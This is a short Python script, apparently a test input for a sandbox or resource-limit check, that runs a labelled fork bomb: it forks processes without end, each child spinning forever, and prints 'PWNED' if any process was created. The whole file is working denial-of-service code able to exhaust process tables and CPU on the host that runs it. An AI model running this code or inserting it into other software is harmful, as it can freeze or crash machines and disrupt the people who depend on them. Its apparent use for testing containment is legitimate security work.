# Classic fork bomb; PWNED if it managed to create any process.
import os
made = 0
try:
    while True:
        if os.fork() == 0:
            while True:
                pass
        made += 1
except OSError:
    pass
if made > 0:
    print("PWNED")
